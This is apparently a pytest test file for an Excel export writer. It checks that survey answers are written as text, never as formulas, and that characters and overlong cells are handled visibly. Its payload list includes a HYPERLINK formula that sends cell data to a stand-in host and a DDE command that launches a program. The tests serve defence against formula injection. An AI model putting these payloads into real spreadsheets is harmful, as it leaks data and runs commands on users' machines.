"""Whatever a person writes, the workbook opens, shows it, and runs nothing."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from exports.writers.excel_text import CUT_MARK, LONGEST
from tests.exports.factories import ask, make_instrument, make_table, respond, xlsx_bytes

ORD = make_instrument(ask("ord"))
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "{=1+1}",
    "#N/A",
    "#REF!",
    '"=1+1"',
    "'=1+1",
    "_x003D_1+1",
    "%0A=1+1",
    '";=1+1;"',
]


def written(*texts: str) -> bytes:
    """Write one response per text."""
    return xlsx_bytes(make_table(ORD, *(respond(ord=text) for text in texts)))


def read_by_openpyxl(content: bytes, sheet: str = "Data") -> list[Any]:
    """Read the answers back."""
    rows = load_workbook(BytesIO(content))[sheet].iter_rows(min_row=2, values_only=True)
    return [row[1] for row in rows]


def read_by_calamine(content: bytes) -> list[Any]:
    """Read the answers back with a reader that shares no code with the writer."""
    return [
        row[1]
        for row in CalamineWorkbook.from_filelike(BytesIO(content))
        .get_sheet_by_name("Data")
        .to_python()[1:]
    ]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_in_an_answer_is_text(text: str) -> None:
    """Opening the file sends nothing anywhere and starts nothing."""
    content = written(text)
    for sheet in ("Data", "Etiketter"):
        cell = load_workbook(BytesIO(content))[sheet]["B2"]
        assert cell.data_type == "s"
    parts = zipfile.ZipFile(BytesIO(content))
    sheets = [parts.read(name) for name in parts.namelist() if "/sheet" in name]
    assert not any(b"<f>" in part or b"<f " in part for part in sheets)
    assert read_by_calamine(content) == [text]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "#N/A"])
def test_a_formula_in_an_answer_stays_text_when_someone_edits_the_cell(text: str) -> None:
    """Excel reads an edited cell anew, unless it carries the mark for quoted text."""
    for sheet in ("Data", "Etiketter"):
        assert load_workbook(BytesIO(written(text)))[sheet]["B2"].quotePrefix


def test_ordinary_texts_carry_no_mark() -> None:
    """The mark says something only when not everything has it."""
    assert not load_workbook(BytesIO(written("Bra = bra")))["Data"]["B2"].quotePrefix


def test_labels_and_titles_are_harmless_too() -> None:
    """Authors are not trusted either."""
    question = ask("q", "select_one", "a =1+1", label="=2+2")
    content = xlsx_bytes(make_table(make_instrument(question), respond(q="a")))
    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if str(cell.value).startswith("=")} == {"s"}


def test_swedish_and_other_letters_survive() -> None:
    """Names of places and pupils' own words come out as they were written."""
    texts = ["å ä ö Å Ä Ö é", "العربية", "ትግርኛ", "😀👩‍👩‍👧", "a\u0301", "  kant  ", "rad\nrad"]
    assert read_by_openpyxl(written(*texts)) == texts
    assert read_by_calamine(written(*texts)) == texts


@pytest.mark.parametrize("sign", ["\x00", "\x08", "\x0b", "\x1f", "\ud800", "\ufffe"])
def test_a_character_that_xml_cannot_hold_is_replaced_visibly(sign: str) -> None:
    """The reader sees that something stood there."""
    assert read_by_openpyxl(written(f"a{sign}b")) == ["a�b"]


def test_a_text_that_looks_like_excels_own_code_is_shown_as_written() -> None:
    """Excel would read _x0041_ as A."""
    content = written("_x0041_")
    sheet = zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet2.xml").decode()
    assert "_x005F_x0041_" in sheet


@pytest.mark.parametrize("letter", ["a", "å", "😀"])
def test_a_text_too_long_for_a_cell_is_cut_visibly_and_counted(letter: str) -> None:
    """Excel would call the file damaged, or cut without a word."""
    units = 2 if letter == "😀" else 1
    content = written(letter * (40_000 // units), "kort", letter * (LONGEST // units))
    cut, short, whole = read_by_openpyxl(content)
    assert cut.endswith(CUT_MARK)
    assert LONGEST - 1 <= len(cut.encode("utf-16-le")) // 2 <= LONGEST
    assert (short, whole) == ("kort", letter * (LONGEST // units))
    lines = load_workbook(BytesIO(content))["Läs mig"].iter_rows(values_only=True)
    assert any("hold more: 1." in str(line[1]) for line in lines)


ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
CODES = {"NA", "NAP", "DK", "REF"}


def expected(text: str) -> str:
    """Say what the cell must show."""
    shown = f'"{text}"' if text.strip('"') in CODES else text
    return ILLEGAL.sub("�", shown)


@settings(deadline=None, max_examples=60)
@given(st.lists(st.text(st.characters(exclude_categories=[]), min_size=1), min_size=1, max_size=20))
def test_any_text_comes_back_or_is_visibly_replaced(texts: list[str]) -> None:
    """No answer is lost, changed in silence, or spoils the answers of others."""
    content = written(*texts)
    for name in zipfile.ZipFile(BytesIO(content)).namelist():
        etree.fromstring(zipfile.ZipFile(BytesIO(content)).read(name))
    assert read_by_openpyxl(content) == [expected(text) for text in texts]


@pytest.mark.parametrize("text", ["a\r\nb", "a\rb", "\x7f\x80\x9f", "]]>", "<b>&amp;</b>"])
def test_markup_and_line_ends_come_back(text: str) -> None:
    """What looks like XML is an answer as well."""
    assert read_by_openpyxl(written(text)) == [text]
